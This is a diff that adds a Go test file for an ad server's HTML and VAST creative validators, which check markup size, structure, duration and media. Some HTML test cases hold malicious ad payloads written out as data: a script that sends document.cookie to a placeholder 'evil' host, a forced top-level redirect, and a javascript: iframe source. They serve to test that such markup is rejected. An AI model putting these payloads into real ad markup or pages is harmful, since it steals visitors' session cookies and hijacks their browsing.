@@ -0,0 +1,90 @@
+package ssp
+
+import (
+	"strings"
+	"testing"
+)
+
+func hasCode(warnings []ValidationWarning, code string) bool {
+	for _, w := range warnings {
+		if w.Code == code {
+			return true
+		}
+	}
+	return false
+}
+
+func TestHTMLValidator(t *testing.T) {
+	v := &HTMLValidator{MaxSize: 1024}
+
+	tests := []struct {
+		name      string
+		adm       string
+		code      string
+		hardError bool
+	}{
+		{"valid", `<a href="https://example.com"><img src="https://cdn.example.com/ad.png"></a>`, "", false},
+		{"empty", "  ", "empty_markup", true},
+		{"too large", `<img src="x">` + strings.Repeat("a", 2048), "max_size", true},
+		{"cookie theft", `<img src="x"><script>new Image().src="//evil/?c="+document.cookie</script>`, "cookie_access", true},
+		{"forced redirect", `<img src="x"><script>top.location = "https://evil"</script>`, "forced_redirect", true},
+		{"javascript src", `<iframe src="javascript:alert(1)"></iframe><img src="x">`, "javascript_source", true},
+		{"no image", `<div>Text ad</div>`, "missing_image", false},
+	}
+
+	for _, tt := range tests {
+		warnings := v.Validate(tt.adm, "banner")
+		if tt.code != "" && !hasCode(warnings, tt.code) {
+			t.Errorf("%s: expected %s warning, got %v", tt.name, tt.code, warnings)
+		}
+		if tt.code == "" && len(warnings) > 0 {
+			t.Errorf("%s: expected no warnings, got %v", tt.name, warnings)
+		}
+		if got := HasValidationErrors(warnings); got != tt.hardError {
+			t.Errorf("%s: expected hard error %v, got %v", tt.name, tt.hardError, got)
+		}
+	}
+}
+
+func TestVASTValidator(t *testing.T) {
+	v := VASTValidator{}
+
+	valid := `<VAST version="3.0"><Ad id="1"><InLine><Creatives><Creative><Linear>
+		<Duration>00:00:15</Duration>
+		<MediaFiles><MediaFile type="video/mp4"><![CDATA[https://cdn.example.com/v.mp4]]></MediaFile></MediaFiles>
+		</Linear></Creative></Creatives></InLine></Ad></VAST>`
+
+	tests := []struct {
+		name      string
+		adm       string
+		code      string
+		hardError bool
+	}{
+		{"valid", valid, "", false},
+		{"malformed", `<VAST><Ad>`, "malformed_xml", true},
+		{"no ad", `<VAST version="3.0"></VAST>`, "no_ad", true},
+		{"bad duration", strings.Replace(valid, "00:00:15", "15s", 1), "invalid_duration", true},
+		{"no media", strings.Replace(valid, "https://cdn.example.com/v.mp4", "", 1), "missing_media_file", true},
+		{"wrapper", `<VAST version="3.0"><Ad><Wrapper><VASTAdTagURI>https://dsp.example.com/vast</VASTAdTagURI></Wrapper></Ad></VAST>`, "", false},
+		{"tag url", "https://dsp.example.com/vast.xml", "not_vast_xml", false},
+	}
+
+	for _, tt := range tests {
+		warnings := v.Validate(tt.adm, "video")
+		if tt.code != "" && !hasCode(warnings, tt.code) {
+			t.Errorf("%s: expected %s warning, got %v", tt.name, tt.code, warnings)
+		}
+		if tt.code == "" && len(warnings) > 0 {
+			t.Errorf("%s: expected no warnings, got %v", tt.name, warnings)
+		}
+		if got := HasValidationErrors(warnings); got != tt.hardError {
+			t.Errorf("%s: expected hard error %v, got %v", tt.name, tt.hardError, got)
+		}
+	}
+}
+
+func TestAdTypeValidatorSkipsUnknownTypes(t *testing.T) {
+	if warnings := NewCreativeValidator().Validate("", "native"); len(warnings) != 0 {
+		t.Errorf("expected native markup to be unchecked, got %v", warnings)
+	}
+}